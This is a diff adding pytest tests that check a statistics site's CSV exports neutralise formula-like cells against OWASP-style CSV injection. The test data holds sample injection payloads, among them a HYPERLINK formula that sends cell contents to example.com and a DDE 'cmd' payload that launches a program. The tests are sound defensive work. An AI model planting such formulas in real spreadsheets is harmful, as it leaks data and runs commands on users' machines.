@@ -206,6 +206,72 @@ def test_download_sizes_measured_without_writing_are_the_written_sizes(tmp_path,
     assert list(document) == ["title", "licence", "columns", "figures", "targets", "events", "sources"]
 
 
+# Texts a spreadsheet would run as a formula (OWASP, "CSV Injection"), and texts it would not.
+FORMULAS = ['=HYPERLINK("https://example.com/?d="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
+NOT_FORMULAS = ["a=b", "Nghệ An: +12 bậc", "5-6", "e-Gov"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(project_copy, tmp_path):
+    """Source titles and notes that begin like a formula are neutralised in the CSV files by a
+    leading `'`, and given exactly in the JSON files; numbers, negative ones too, stay numbers."""
+    import yaml
+
+    from cds import downloads
+    from cds.dataset import read_dataset
+
+    sources_file = project_copy / "data" / "sources.yml"
+    sources = yaml.safe_load(sources_file.read_text(encoding="utf-8"))
+    mixed = [text for pair in zip(FORMULAS, NOT_FORMULAS + [None] * len(FORMULAS)) for text in pair if text]
+    titles = {source["id"]: title for source, title in zip(sources["sources"], mixed)}
+    for source in sources["sources"]:
+        source["title"] = titles[source["id"]]
+    sources_file.write_text(yaml.safe_dump(sources, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    province_file = project_copy / "data" / "provinces" / "nghe-an.yml"
+    province = yaml.safe_load(province_file.read_text(encoding="utf-8"))
+    figure = province["figures"][0]
+    figure["note"] = {"vi": "-5 so với 2022", "en": "@ the end of 2022"}
+    figure["ranks"] = [{"scope": "national", "position": 20, "total": 63, "change": -3, "change_since": "2021"}]
+    province_file.write_text(yaml.safe_dump(province, allow_unicode=True, sort_keys=False), encoding="utf-8")
+
+    dataset = read_dataset(project_copy / "data", project_copy / "schema", project_copy)
+    downloads.write_downloads(dataset, tmp_path)
+    raw = (tmp_path / "data" / "cds-figures.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    document = json.loads((tmp_path / "data" / "cds-figures.json").read_bytes())
+    used = {row["source_title"] for row in rows}
+    assert used & set(FORMULAS) == set(), "a formula is written as it is"
+    assert {"'" + title for title in FORMULAS} & used and set(NOT_FORMULAS) & used, "the data should hold both kinds"
+    for row, item in zip(rows, document["figures"], strict=True):
+        title = titles[row["source_id"]]
+        assert row["source_title"] == ("'" + title if title in FORMULAS else title)
+        assert item["source_title"] == title
+    first = next(row for row in rows if row["province_id"] == "nghe-an" and row["indicator_id"] == figure["indicator"])
+    assert (first["note_vi"], first["note_en"]) == ("'-5 so với 2022", "'@ the end of 2022")
+    assert document["figures"][rows.index(first)]["note_vi"] == "-5 so với 2022"
+    # Every text is quoted, so that no separator a spreadsheet may choose (`;`) starts a cell
+    # inside it; numbers are bare, and the negative rank change is a number, not text.
+    lines = raw.splitlines()
+    assert lines[0].startswith('"figure_id","province_id",')
+    line = next(line for line in lines if line.startswith(f'"{first["figure_id"]}",'))
+    cells = dict(zip(downloads.FIGURE_COLUMNS, next(csv.reader([line], quoting=csv.QUOTE_NONNUMERIC))))
+    assert (cells["rank_change"], cells["rank_position"]) == (-3, 20)
+    assert ",-3," in line and document["figures"][rows.index(first)]["rank_change"] == -3
+
+
+@pytest.mark.parametrize("text, shown", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
+    ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("\nx", "'\nx"), ("\tx", "'\tx"),
+    (" =1+2", "' =1+2"), ("\u00a0=1+2", "'\u00a0=1+2"), (" \n @A1", "' \n @A1"),
+    ("a=1+2", "a=1+2"), ("x\n=1", "x\n=1"), ("'=1", "'=1"), ("", ""), ("1-2", "1-2"), ("Đà Nẵng", "Đà Nẵng"),
+])
+def test_spreadsheet_text_follows_owasp(text, shown):
+    """OWASP: a cell must not begin with =, +, -, @, tab, carriage return or line feed; this
+    site also looks past leading spaces, which spreadsheets may trim when they import."""
+    from cds.downloads import spreadsheet_text
+
+    assert spreadsheet_text(text) == shown
+
+
 def acronyms_in_data(data) -> set[str]:
     """Acronyms in reader-facing text: runs of two or more capitals, leaving out document
     numbers (09-NQ/TU, 202/2025/QH15), roman numerals and period codes."""
